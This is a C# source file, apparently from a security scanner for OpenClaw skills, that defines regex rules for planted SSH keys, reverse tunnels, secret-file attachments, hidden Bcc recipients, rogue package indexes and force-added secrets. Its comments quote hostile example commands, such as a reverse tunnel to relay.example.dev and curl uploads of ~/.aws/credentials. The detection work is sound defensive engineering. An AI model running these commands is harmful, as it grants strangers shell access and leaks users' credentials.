using System.Runtime.CompilerServices;
using System.Text.RegularExpressions;

namespace OpenClaw.Desired.Resources.Skills.Audit;

/// <summary>
/// Quiet footholds and leaks that one line of ordinary code holds: a fixed SSH key appended to authorized_keys, a
/// secret file attached to a message, a blind copy of mail to a fixed address, a package index no vendor runs, a Git
/// remote on a host the skill names.
/// </summary>
public static partial class Footholds
{
    private const RegexOptions I = RegexOptions.IgnoreCase | RegexOptions.CultureInvariant;

    public static IReadOnlyList<AuditRule> Rules { get; } =
    [
        new("planted-ssh-key", AuditSeverity.Critical, "adds an SSH key the skill carries to authorized_keys: whoever holds its private half logs in as the user", PublicKey()) { Judge = JudgePlantedKey, Anchors = ["ssh-", "ecdsa-"] },
        new("planted-ssh-key", AuditSeverity.High, "appends a key file the skill ships, or one fetched from a host that is no forge's key list, to authorized_keys: whoever holds its private half logs in as the user", KeyFileAppended()) { Judge = JudgeKeyFile, Anchors = ["authorized_keys"] },
        new("reverse-tunnel", AuditSeverity.High, "opens a reverse SSH tunnel that hands this machine's SSH port to a remote host: whoever runs that host can log in through it", ReverseTunnel()) { Judge = JudgeReverseTunnel, Anchors = [":22"] },
        new("secret-attachment", AuditSeverity.High, "attaches a file of secrets (.env, credentials, keys) to a message or an upload", SecretAttached()) { Judge = JudgeAttachment, Anchors = ["attach", "senddocument", "send_document", "mimeapplication", "mimebase", "-f", "--form"], Signal = Signal.Send },
        new("hidden-recipient", AuditSeverity.Medium, "copies mail to a fixed blind-copy address the user never sees", FixedBcc()) { Judge = JudgeBcc, Anchors = ["bcc"] },
        new("package-index", AuditSeverity.High, "installs packages from an index no vendor runs: any dependency, and every update, can be swapped there", PackageIndex()) { Judge = JudgeIndex, Anchors = ["index-url", "index_url", "--registry", "registry=", "npm_config_registry", "find-links", "--source", "pip", "config set", "npmregistryserver", "goproxy", "[[source]]", "[source.", "[[tool.uv.index]]", "[[tool.poetry.source]]", "set registry"] },
        new("package-index", AuditSeverity.High, "writes an index no vendor runs into pip's config: any dependency, and every update, can be swapped there", ConfigKeyWritten()) { Judge = JudgeConfigKey, Anchors = ["index-url", "trusted-host"], CodeOnly = true },
        AuditRule.Evidence("sig-git-remote-host", Signal.Send, GitRemoteHost(), "git@", "ssh://", ".git") with { Judge = JudgeGitRemote },
        AuditRule.Evidence("sig-git-force-secrets", Signal.CredentialRead, ForceAddedSecrets(), "add") with { Judge = LineJudges.JudgeNotNegated },
    ];

    /// <summary>
    /// Secret files staged by force, past the .gitignore that keeps them out: <c>git add -f .env*</c>,
    /// <c>git -C "$REPO" add --force ~/.ssh/id_ed25519 credentials.json</c>. Whatever is pushed next carries them.
    /// </summary>
    [GeneratedRegex(@"\bgit(?:[ \t]+-[Cc][ \t]+[^\s;&|]+)*[ \t]+add\b(?=[^\n;&|#]*?[ \t](?:-f|--force|-[A-Za-z]*f[A-Za-z]*)(?=[ \t]|$))[^\n;&|#]*?[ \t]""?(?:[~.\w$/{}-]*/)?(?:\.env(?![\w-]|\.(?:example|sample|template|dist)\b)|\.ssh\b|id_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)|\.npmrc\b|\.netrc\b|\.git-credentials\b|\.openclaw\b|\.clawdbot\b|auth-profiles|(?:credentials|secrets?)(?![\w-]|\.(?:example|sample|template|md)\b)|[\w*-]*\.pem\b|[\w*-]*\.key\b)", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant | RegexOptions.Multiline)]
    private static partial Regex ForceAddedSecrets();

    /// <summary>
    /// ssh or autossh asked to forward a port of the remote host back to this machine's SSH server:
    /// <c>ssh -N -R 2222:localhost:22 wd@relay.example.dev</c>, <c>-R "2${RANDOM:0:4}:127.0.0.1:22"</c>.
    /// </summary>
    [GeneratedRegex(@"\b(?:auto)?ssh\b[^\n]{0,300}?[ \t]-R[ \t]*[""']?[^\s""']{0,60}:(?:localhost|127\.0\.0\.1|\[::1\]|::1)?:22(?=[""'\s]|$)", RegexOptions.CultureInvariant)]
    private static partial Regex ReverseTunnel();

    /// <summary>High where the line names the host the tunnel goes to (<c>user@relay.example.dev</c>, a host with a dot); medium where the user gives it (<c>"$SERVER"</c>).</summary>
    private static AuditSeverity? JudgeReverseTunnel(string text, Match match)
    {
        var end = text.IndexOf('\n', match.Index + match.Length);
        var rest = text[(match.Index + match.Length)..(end < 0 ? text.Length : end)];
        return LineJudges.JudgeNotNegated(text, match) is null ? null
            : NamedHost().Match(rest) is { Success: true } host && !Placeholder().IsMatch(host.Value) ? AuditSeverity.High : AuditSeverity.Medium;
    }

    [GeneratedRegex(@"(?:^|[\s""'@])(?:[\w-]+\.)+[a-z]{2,}\b|\b(?:\d{1,3}\.){3}\d{1,3}\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex NamedHost();

    /// <summary>A host written as an example for the reader's own: <c>your-vps.com</c>, <c>example.com</c>, documentation addresses (TEST-NET).</summary>
    [GeneratedRegex(@"\byour\b|your[-_]|\bexample\.|\bmy-?(?:server|vps|host)\b|\b(?:192\.0\.2|198\.51\.100|203\.0\.113)\.", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex Placeholder();

    /// <summary>A public key's blob (at least 40 characters of it: a real key, not <c>AAAA…</c>).</summary>
    [GeneratedRegex(@"\b(?:ssh-(?:ed25519|rsa|dss)|ecdsa-sha2-nistp\d{3}|sk-ssh-ed25519@openssh\.com)[ \t]+AAAA[0-9A-Za-z+/]{40,}={0,3}", RegexOptions.CultureInvariant)]
    private static partial Regex PublicKey();

    /// <summary>How many lines around the key its write to authorized_keys may be.</summary>
    private const int KeyLines = 10;

    [GeneratedRegex(@"authorized_keys", RegexOptions.CultureInvariant)]
    private static partial Regex AuthorizedKeys();

    [GeneratedRegex(@">>|\btee(?:\s+-[b-z]+)*\s+(?:-[b-z]*a[a-z]*|--append)\b|\bopen\s*\([^\n]*[""']a\+?[""']|\.open\s*\(\s*[""']a\+?[""']|\bappend\w*\b|\bAdd-Content\b|\bappendFile\w*\b|\bwrite\w*\s*\(|\bcat\s*>", I)]
    private static partial Regex Appends();

    /// <summary>
    /// A carried key counts where, within <see cref="KeyLines"/> lines, authorized_keys is named and something appends or
    /// writes; or where the name the key is held in (<c>HELPER_PUB = ("ssh-ed25519 AAAA…")</c> at the top of a program) is
    /// appended, anywhere in a file that names authorized_keys.
    /// </summary>
    private static AuditSeverity? JudgePlantedKey(string text, Match match)
    {
        if (LineJudges.JudgeNotNegated(text, match) is null)
        {
            return null;
        }

        var window = Lines(text, match.Index, KeyLines);
        if (AuthorizedKeys().IsMatch(window) && Appends().IsMatch(window))
        {
            return AuditSeverity.Critical;
        }

        var lineStart = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
        return match.Index - lineStart <= 200 && KeyHolder().Match(text, lineStart, match.Index - lineStart) is { Success: true } holder
            && NameAppended(text, match.Index, holder.Groups["name"].Value)
            ? AuditSeverity.Critical : null;
    }

    /// <summary>
    /// Whether, within 16 KiB after the key, a line that uses <paramref name="name"/> appends (<c>fh.write(… + HELPER_PUB + "\n")</c>,
    /// <c>echo "$KEY" &gt;&gt; …</c>) where it or the three lines before it name authorized_keys, or a name given its path (<c>ak = SSH / "authorized_keys"</c>).
    /// </summary>
    private static bool NameAppended(string text, int keyAt, string name)
    {
        var to = Math.Min(text.Length, keyAt + 16 * 1024);
        var region = text[keyAt..to];
        if (!region.Contains("authorized_keys", StringComparison.Ordinal))
        {
            return false;
        }

        var paths = AuthorizedKeysHolder().Matches(region).Select(m => m.Groups["name"].Value).ToHashSet(StringComparer.Ordinal);
        foreach (Match use in Regex.Matches(region, @"(?<![\w$])\$?\{?" + Regex.Escape(name) + @"\b", RegexOptions.CultureInvariant).Take(64))
        {
            var start = use.Index == 0 ? 0 : region.LastIndexOf('\n', use.Index - 1) + 1;
            var end = region.IndexOf('\n', use.Index);
            var line = region[start..(end < 0 ? region.Length : end)];
            if (line.Length > 400 || !Appends().IsMatch(line) || line.TrimStart().StartsWith(name, StringComparison.Ordinal))
            {
                continue;
            }

            var windowStart = start;
            for (var n = 0; n < 3 && windowStart > 0; n++)
            {
                windowStart = region.LastIndexOf('\n', windowStart - 2 < 0 ? 0 : windowStart - 2) + 1;
            }

            var window = region[windowStart..(end < 0 ? region.Length : end)];
            if (window.Contains("authorized_keys", StringComparison.Ordinal) || paths.Any(p => Regex.IsMatch(window, @"(?<![\w$])" + Regex.Escape(p) + @"\b")))
            {
                return true;
            }
        }

        return false;
    }

    /// <summary>A name given authorized_keys's path: <c>ak = SSH_DIR / "authorized_keys"</c>, <c>AK="$HOME/.ssh/authorized_keys"</c>.</summary>
    [GeneratedRegex(@"(?<name>[A-Za-z_]\w{0,63})[ \t]*:?=[ \t]*[^\n]{0,200}authorized_keys", RegexOptions.CultureInvariant)]
    private static partial Regex AuthorizedKeysHolder();

    /// <summary>The name a key is assigned to, on the key's line before it: <c>HELPER_PUB = ("</c>, <c>const KEY = '</c>, <c>SUPPORT_KEY="</c>.</summary>
    [GeneratedRegex(@"^[ \t]*(?:(?:const|let|var|my|local|readonly|export|static|final|pub)[ \t]+)*\$?(?<name>[A-Za-z_]\w{0,63})[ \t]*(?::[ \t]*[\w<>\[\]&']+[ \t]*)?:?=[ \t]*\(?[ \t]*[""'`]$", RegexOptions.CultureInvariant)]
    private static partial Regex KeyHolder();

    /// <summary>
    /// Whether a program installs the user's own key the way ssh-copy-id does: it names ssh-copy-id (its fallback writes the
    /// same append into a command for the server) or makes the key pair itself, carries no key and fetches nothing.
    /// </summary>
    public static bool InstallsOwnKey(string text) =>
        PerText.Ask(text, "installs-own-ssh-key", t => OwnKeyTool().IsMatch(t) && !PublicKey().IsMatch(t) && !FetchesAnything().IsMatch(t));

    /// <summary>ssh-copy-id, a key pair the program makes itself (<c>ssh-keygen -t ed25519 -f "$NEW"</c>, <c>system("ssh-keygen", …)</c>), or a public key file on this machine read (<c>"$KEY.pub"</c>, <c>File.read("#{key}.pub")</c>): the public half is the user's.</summary>
    [GeneratedRegex(@"\bssh-copy-id\b|\bssh-keygen\b[^\n]*\s-f\s|[""']ssh-keygen[""']|[\w}""']\.pub\b", RegexOptions.CultureInvariant)]
    private static partial Regex OwnKeyTool();

    [GeneratedRegex(@"https?://|\b(?:curl|wget|urlopen|requests\.get|fetch|Invoke-WebRequest|Invoke-RestMethod|http\.Get)\b", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex FetchesAnything();

    /// <summary>The lines from <paramref name="count"/> before the offset's line to <paramref name="count"/> after it, at most 4 KiB either side.</summary>
    private static string Lines(string text, int offset, int count)
    {
        // Read only within 4 KiB either side: a line of a million "open(" costs no more than that.
        var low = Math.Max(0, offset - 4096);
        var high = Math.Min(text.Length, offset + 4096);
        var start = offset;
        for (var n = 0; n <= count && start > low; n++)
        {
            start = text.LastIndexOf('\n', start - 1, start - low);
            if (start < low)
            {
                start = low;
            }
        }

        var end = offset;
        for (var n = 0; n <= count && end >= 0 && end < high - 1; n++)
        {
            end = text.IndexOf('\n', end + 1, high - end - 1);
        }

        return text[start..(end < 0 ? high : end)];
    }

    /// <summary>
    /// A key appended from a file or a download: <c>cat "$(dirname "$0")/support.pub" &gt;&gt; ~/.ssh/authorized_keys</c>,
    /// <c>curl -s https://host/k &gt;&gt; ~/.ssh/authorized_keys</c>, <c>… | tee -a authorized_keys</c>, <c>… | cat &gt;&gt; authorized_keys</c>.
    /// </summary>
    [GeneratedRegex(@"\b(?:cat|type|Get-Content|gc)[ \t]+(?<src>[^\n|>;&]{1,200}?\.pub)[""']?[ \t]*(?:>>|\|[ \t]*(?:sudo[ \t]+)?tee(?:[ \t]+-[b-z]+)*[ \t]+(?:-[b-z]*a[a-z]*|--append)\b|\|[ \t]*Add-Content\b)[^\n|;&]{0,120}?authorized_keys|\b(?:curl|wget)\b(?<fetch>[^\n|;&>]{1,300}?)(?:>>|\|[ \t]*(?:sudo[ \t]+)?(?:tee(?:[ \t]+-[b-z]+)*[ \t]+(?:-[b-z]*a[a-z]*|--append)\b|cat[ \t]*(?:-[ \t]*)?>>))[^\n|;&]{0,120}?authorized_keys", I)]
    private static partial Regex KeyFileAppended();

    /// <summary>
    /// A key file under the skill's own folder (<c>$(dirname "$0")</c>, <c>$SKILL_DIR</c>, <c>{baseDir}</c>, a relative
    /// <c>assets/</c> or <c>keys/</c> path) or any download but a forge's list of the keys of a user the reader names:
    /// the user's own key (<c>~/.ssh/id_ed25519.pub</c>) and <c>ssh-copy-id</c>'s work are not, but a key the skill ships
    /// under the user's key's name (<c>"$SKILL_DIR/keys/id_ed25519.pub"</c>) is the skill's.
    /// </summary>
    private static AuditSeverity? JudgeKeyFile(string text, Match match)
    {
        if (LineJudges.JudgeNotNegated(text, match) is null)
        {
            return null;
        }

        if (match.Groups["fetch"].Success)
        {
            return ForgeKeys().IsMatch(match.Groups["fetch"].Value) ? null : AuditSeverity.Critical;
        }

        var source = match.Groups["src"].Value;
        return SkillFolder().IsMatch(source) && !OwnKey().IsMatch(source) ? AuditSeverity.High : null;
    }

    /// <summary>
    /// A forge's list of the keys of a user the reader names (<c>github.com/$GH_USER.keys</c>, <c>github.com/&lt;you&gt;.keys</c>,
    /// Launchpad's <c>~you/+sshkeys</c>, <c>ssh-import-id</c>), and no other address on the line: a user name written
    /// into the skill is its author's keys.
    /// </summary>
    [GeneratedRegex(@"^(?:(?!https?://)[^\n])*https://(?:(?:github\.com|gitlab\.com|codeberg\.org)/(?:\$\{?\w+\}?|<[\w -]+>|\{\w+\}|YOUR[\w-]*|your[\w-]*|USER(?:NAME)?)\.keys\b|api\.github\.com/users/(?:\$\{?\w+\}?|<[\w -]+>|\{\w+\})/keys\b|launchpad\.net/~(?:\$\{?\w+\}?|<[\w -]+>|\{\w+\})/\+sshkeys\b)(?:(?!https?://)[^\n])*$|\bssh-import-id\b", I)]
    private static partial Regex ForgeKeys();

    [GeneratedRegex(@"\$\(dirname\b|\$\{?(?:SKILL|SCRIPT|BASE|HERE|ROOT)_?DIR\b|\{baseDir\}|\$PSScriptRoot|__dirname|(?:^|[\s""'/.])(?:assets|keys|resources|scripts|support|data|files|config)/", I)]
    private static partial Regex SkillFolder();

    [GeneratedRegex(@"(?:~|\$HOME|\$\{HOME\}|\$env:USERPROFILE|%USERPROFILE%)[/\\]\.ssh[/\\]", I)]
    private static partial Regex OwnKey();

    /// <summary>
    /// A message or upload given a secret file: <c>m.add_attachment(env_path.read_bytes(), …)</c>, <c>sendDocument</c> of
    /// a .env, <c>curl -F file=@~/.aws/credentials</c>, <c>mail -a id_rsa</c>. A variable named for it counts (<c>env_file</c>, <c>creds</c>).
    /// </summary>
    [GeneratedRegex(@"(?:\badd_attachment\s*\(\s*|\bMIME(?:Application|Base)\s*\(\s*|(?:\s-F|--form)\s+[""']?[\w-]+=@[""']?|--attach(?:ment)?[=\s]+[""']?|\bsend_?document\b[^\n]{0,80}?\b(?:document|files?)\s*[=:]\s*(?:\{[^\n]{0,40}?)?|\battachments?\s*[=:(]\s*\[?\s*)(?<file>[^,)\s""']{1,160})", I)]
    private static partial Regex SecretAttached();

    /// <summary>A file that holds secrets by its name or its variable's: a .env (not .env.example), credentials, a private SSH key, OpenClaw's config or auth profiles, a wallet, .netrc.</summary>
    [GeneratedRegex(@"(?:^|[/\\.~$({\[])\.env\b(?![.\w-])|\benv_?(?:path|file)\b|\bdotenv\b|\bcreds?\b|\bcredentials?\b|\bid_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub)|auth-profiles|openclaw\.json|\bsecrets?\b|\bwallet|\.netrc\b|\.git-credentials\b|\bkeychain\b|\bLogin Data\b", I)]
    private static partial Regex SecretFile();

    /// <summary>The attached file is named for secrets; not a program's environment (<c>process.env.X</c>) nor a negated line.</summary>
    private static AuditSeverity? JudgeAttachment(string text, Match match)
    {
        var file = match.Groups["file"].Value;
        return file.Contains("process.env", StringComparison.Ordinal) || !SecretFile().IsMatch(file) || LineJudges.JudgeNotNegated(text, match) is null ? null : AuditSeverity.High;
    }

    /// <summary>
    /// A blind copy to a written address: <c>m["Bcc"] = "x@host"</c>, <c>bcc: 'x@host'</c>, or a header line that puts a
    /// name in (<c>Bcc: #{ARCHIVE_TO}</c>, <c>"Bcc: " + ARCHIVE</c>) where the name is given an address; <c>-b x@host</c> is left to the reader.
    /// </summary>
    [GeneratedRegex(@"[""']?\bBcc\b[""']?\s*\]?\s*[:=]\s*[\[""']+[\w.+-]+@[\w-]+(?:\.[\w-]+)+|\bBcc:[ \t]*(?:#\{|\$\{|\{|[""'][ \t]*\+[ \t]*|%\()(?<name>[A-Za-z_]\w{0,63})", I)]
    private static partial Regex FixedBcc();

    /// <summary>
    /// A name put into the header counts where the program gives it an address (<c>ARCHIVE_TO = 'archive@…'</c>). High where the
    /// program also reads .env files or credentials: what it mails, a hidden reader gets too.
    /// </summary>
    private static AuditSeverity? JudgeBcc(string text, Match match)
    {
        var name = match.Groups["name"];
        if (name.Success && !Regex.IsMatch(text, @"(?<![\w$.])" + Regex.Escape(name.Value) + @"\s*:?=\s*[""'][\w.+-]+@[\w-]+(?:\.[\w-]+)+[""']", RegexOptions.CultureInvariant))
        {
            return null;
        }

        return MailsSecrets().IsMatch(text) ? AuditSeverity.High : AuditSeverity.Medium;
    }

    /// <summary>A program that reads .env files or credentials by name: <c>.env</c> in a string or a pattern, <c>credentials</c>, a private key's name.</summary>
    [GeneratedRegex(@"[""'/\\(]\\?\.env\b(?!\.(?:example|sample|template))|[""'/]\.(?:aws|ssh)/|\bid_(?:rsa|ed25519)\b(?!\.pub)|[""'/]credentials(?:\.json)?[""']", RegexOptions.CultureInvariant)]
    private static partial Regex MailsSecrets();

    /// <summary>
    /// An index or registry option with its address: pip's <c>--extra-index-url</c>, <c>--index-url</c>, <c>--find-links</c>,
    /// npm's <c>--registry</c> and <c>registry=</c>, gem's <c>--source</c>; set for good with <c>pip config set
    /// global.extra-index-url</c> (also <c>--user</c>), <c>npm config set registry</c> or <c>npm set registry</c>; Yarn's
    /// <c>npmRegistryServer:</c>, Go's <c>GOPROXY=</c> (every entry of its list), a Pipfile's <c>[[source]]</c>, uv's
    /// <c>[[tool.uv.index]]</c> or Poetry's <c>[[tool.poetry.source]]</c> url.
    /// </summary>
    [GeneratedRegex(@"(?:--(?:extra-)?index-url[=\s]|\b(?:extra-)?index-url\s*=|\b(?:PIP|UV)_(?:EXTRA_)?INDEX_URL\s*=|--find-links[=\s]|\bpip[\d.]*\s+install\b[^\n]{0,200}?\s-[if]\s|--registry[=\s]|(?-i:^registry=)|@[\w-]+:registry=|\bNPM_CONFIG_REGISTRY\s*=|\bgem\s+install\b[^\n]{0,300}?--source|\b(?:config\s+(?:--(?:user|global|site)\s+)?)?set\s+(?:[\w.:@/-]{0,60}\.)?(?:(?:extra-)?index-url|find-links|registry)[=\s]|\bnpmRegistryServer\s*:|\bGOPROXY\s*=|(?-i:^)\[\[(?:tool\.uv\.index|tool\.poetry\.source|source)\]\][ \t]*\r?\n(?:[ \t]*(?!url\b)\w[^\n\[]{0,200}\n){0,6}?[ \t]*url\s*=|(?-i:^)\[source\.[\w-]+\][ \t]*\r?\n(?:[ \t]*(?!registry\b)\w[^\n\[]{0,200}\n){0,6}?[ \t]*registry\s*=)\s*[""']?(?:sparse\+)?(?<url>https?://(?:[^@/\s""']+@)?(?<host>[\w.-]+)[^\s""']*)", I | RegexOptions.Multiline)]
    private static partial Regex PackageIndex();

    /// <summary>Indexes their vendors run: PyPI and its test twin, PyTorch's and NVIDIA's wheels, npm's, Yarn's and GitHub's registries, piwheels, PyG, cloud vendors' artifact stores.</summary>
    private static readonly string[] VendorIndexes =
    [
        "pypi.org", "pypi.python.org", "files.pythonhosted.org", "download.pytorch.org", "pypi.nvidia.com", "pypi.ngc.nvidia.com", "piwheels.org",
        "data.pyg.org", "registry.npmjs.org", "registry.yarnpkg.com", "npm.pkg.github.com", "rubygems.org", "pkg.dev", "pkgs.dev.azure.com",
        "jfrog.io", "gitlab.com", "localhost", "127.0.0.1", "pypi.anaconda.org", "conda.anaconda.org", "download.openmmlab.com", "storage.googleapis.com",
        "pip.repos.neuron.amazonaws.com", "flashinfer.ai", "wheels.vllm.ai", "registry.npmjs.com", "proxy.golang.org", "goproxy.io",
        "index.crates.io", "crates.io", "github.com",
        // Public mirrors of PyPI and npm that users in China configure (Tsinghua, Aliyun, Tencent, Huawei, USTC, Douban, npmmirror).
        "pypi.tuna.tsinghua.edu.cn", "mirrors.tuna.tsinghua.edu.cn", "mirrors.aliyun.com", "mirrors.cloud.tencent.com", "repo.huaweicloud.com",
        "mirrors.ustc.edu.cn", "pypi.mirrors.ustc.edu.cn", "pypi.douban.com", "registry.npmmirror.com", "registry.npm.taobao.org", "goproxy.cn",
        "mirrors.bfsu.edu.cn", "mirror.sjtu.edu.cn", "mirrors.sustech.edu.cn", "mirrors.163.com", "mirrors.pku.edu.cn", "mirror.nju.edu.cn",
    ];

    private static AuditSeverity? JudgeIndex(string text, Match match)
    {
        var host = match.Groups["host"].Value.TrimEnd('.');
        if (match.Value.Contains("GOPROXY", StringComparison.OrdinalIgnoreCase))
        {
            // Go tries each proxy of the list in turn: a vendor's first and another after it still serves from the other.
            host = ProxyList(text, match.Groups["url"].Index).FirstOrDefault(h => !IsVendorIndex(h)) ?? host;
        }

        var start = match.Index == 0 ? 0 : text.LastIndexOf('\n', match.Index - 1) + 1;
        // The option as given: in a requirements file or a config file's line of its own, or to a package tool's command;
        // not a checker's report that quotes it ("⚠ line 2  --extra-index-url …").
        var given = OwnLine().IsMatch(text.AsSpan(start, match.Index - start)) || PackageTool().IsMatch(text.AsSpan(start, match.Index - start)) || match.Value.StartsWith("pip", StringComparison.OrdinalIgnoreCase) || match.Value.StartsWith("PIP_", StringComparison.Ordinal)
            || match.Value.StartsWith("GOPROXY", StringComparison.Ordinal) || match.Value.StartsWith("[[", StringComparison.Ordinal) || match.Value.StartsWith("npmRegistryServer", StringComparison.Ordinal);
        if (!given || IsVendorIndex(host)
            || AuditContext.QuotesAnExample(host) || LineJudges.JudgeNotNegated(text, match) is null)
        {
            return null;
        }

        // A project's own wheel index on its GitHub Pages (llama-cpp-python's) is a project's, not a vendor's: medium.
        return host.EndsWith(".github.io", StringComparison.OrdinalIgnoreCase) ? AuditSeverity.Medium : AuditSeverity.High;
    }

    private static bool IsVendorIndex(string host) =>
        VendorIndexes.Any(v => host.Equals(v, StringComparison.OrdinalIgnoreCase) || host.EndsWith("." + v, StringComparison.OrdinalIgnoreCase));

    /// <summary>The hosts of a GOPROXY list (<c>https://a,https://b|direct</c>) from its first address to the end of the value, 1 KiB at most.</summary>
    private static IEnumerable<string> ProxyList(string text, int from)
    {
        var end = from;
        while (end < text.Length && end - from < 1024 && !char.IsWhiteSpace(text[end]) && text[end] is not ('"' or '\'' or '`' or ';'))
        {
            end++;
        }

        foreach (var raw in text[from..end].Split([',', '|'], StringSplitOptions.RemoveEmptyEntries))
        {
            // Go reads no further than direct or off, and puts https:// before an entry that has no scheme.
            if (raw is "direct" or "off")
            {
                yield break;
            }

            var entry = raw.Contains("://", StringComparison.Ordinal) ? raw : "https://" + raw;
            if (Uri.TryCreate(entry, UriKind.Absolute, out var uri) && uri.Scheme is "http" or "https")
            {
                yield return uri.Host;
            }
        }
    }

    /// <summary>
    /// A program that sets pip's index key in a config it writes: <c>cp["global"]["extra-index-url"] = …</c>,
    /// <c>g["trusted-host"] = …</c>, <c>config.set("global", "index-url", …)</c>; the address on the statement is judged, or,
    /// where it holds none, the index-shaped addresses the file names (a table of mirrors).
    /// </summary>
    [GeneratedRegex(@"\[\s*[""'](?:extra-index-url|index-url|trusted-host)[""']\s*\]\s*=(?!=)|\.set\s*\(\s*[""']global[""']\s*,\s*[""'](?:extra-index-url|index-url|trusted-host)[""']", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex ConfigKeyWritten();

    /// <summary>An index's address in the file: a pip index (<c>…/simple</c>) or a host named for PyPI or npm.</summary>
    [GeneratedRegex(@"\bhttps?://(?:[^@/\s""']+@)?(?<host>[\w-]+(?:\.[\w-]+)+)(?:/[^\s""']*)?", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex AnyUrl();

    [GeneratedRegex(@"/simple/?$|pypi|npm|registry|wheel|pkg|mirror", RegexOptions.IgnoreCase | RegexOptions.CultureInvariant)]
    private static partial Regex IndexShaped();

    /// <summary>The file names an index-shaped address on a host no vendor runs (a look-alike of a public mirror, a CDN of no one's).</summary>
    private static AuditSeverity? JudgeConfigKey(string text, Match match)
    {
        if (LineJudges.JudgeNotNegated(text, match) is null)
        {
            return null;
        }

        // The address on the statement itself is the one written; else one from a table of indexes in the file.
        var line = LineJudges.LineOf(text, match.Index);
        if (AnyUrl().Match(line) is { Success: true } own)
        {
            var host = own.Groups["host"].Value.TrimEnd('.');
            return IsVendorIndex(host) || AuditContext.QuotesAnExample(host) ? null : AuditSeverity.High;
        }

        foreach (Match url in AnyUrl().Matches(text))
        {
            var host = url.Groups["host"].Value.TrimEnd('.');
            if (IndexShaped().IsMatch(url.Value) && !IsVendorIndex(host) && !AuditContext.QuotesAnExample(host))
            {
                return AuditSeverity.High;
            }
        }

        return null;
    }

    [GeneratedRegex(@"^[ \t]*(?:-[ \t]+)?[""']?$", RegexOptions.CultureInvariant)]
    private static partial Regex OwnLine();

    [GeneratedRegex(@"\b(?:pip[\d.]*|uv|pipx|poetry|npm|npx|yarn|pnpm|bun|gem|bundle|PIP_(?:EXTRA_)?INDEX_URL|npm_config_registry|GOPROXY|go\s+env\s+-w)\b", RegexOptions.CultureInvariant)]
    private static partial Regex PackageTool();

    /// <summary>A Git address on a named host: <c>git@git.example.net:vault/x.git</c>, <c>ssh://git@host/x</c>, <c>https://host/x.git</c>.</summary>
    [GeneratedRegex(@"\bgit@(?<host>[\w-]+(?:\.[\w-]+)+):|\bssh://(?:[\w.-]+@)?(?<host>[\w-]+(?:\.[\w-]+)+)|\bhttps?://(?:[^@/\s""']+@)?(?<host>[\w-]+(?:\.[\w-]+)+)/[^\s""']*\.git\b", I)]
    private static partial Regex GitRemoteHost();

    /// <summary>Forges where a user's own repositories live.</summary>
    private static readonly string[] Forges = ["github.com", "gitlab.com", "gitee.com", "heroku.com", "aur.archlinux.org", "amazonaws.com", "visualstudio.com", "bitbucket.org", "codeberg.org", "sr.ht", "git.sr.ht", "gitea.com", "dev.azure.com", "ssh.dev.azure.com", "huggingface.co", "salsa.debian.org", "kernel.org", "googlesource.com", "sourceforge.net"];

    /// <summary>Whether a text pushes, learnt once per text: a file of many addresses asks it once.</summary>
    private static readonly ConditionalWeakTable<string, StrongBox<bool>> Pushes = new();

    [GeneratedRegex(@"\bgit\s+(?:-c\s+\S+\s+)*push\b", I)]
    private static partial Regex GitPush();

    /// <summary>A Git address on a host the skill names, not a forge's, in a text that pushes: what it pushes goes there.</summary>
    private static AuditSeverity? JudgeGitRemote(string text, Match match)
    {
        var host = match.Groups["host"].Value.TrimEnd('.');
        return Forges.Any(f => host.Equals(f, StringComparison.OrdinalIgnoreCase) || host.EndsWith("." + f, StringComparison.OrdinalIgnoreCase))
            || AuditContext.QuotesAnExample(host) || !Pushes.GetValue(text, t => new StrongBox<bool>(GitPush().IsMatch(t))).Value ? null : AuditSeverity.Low;
    }
}
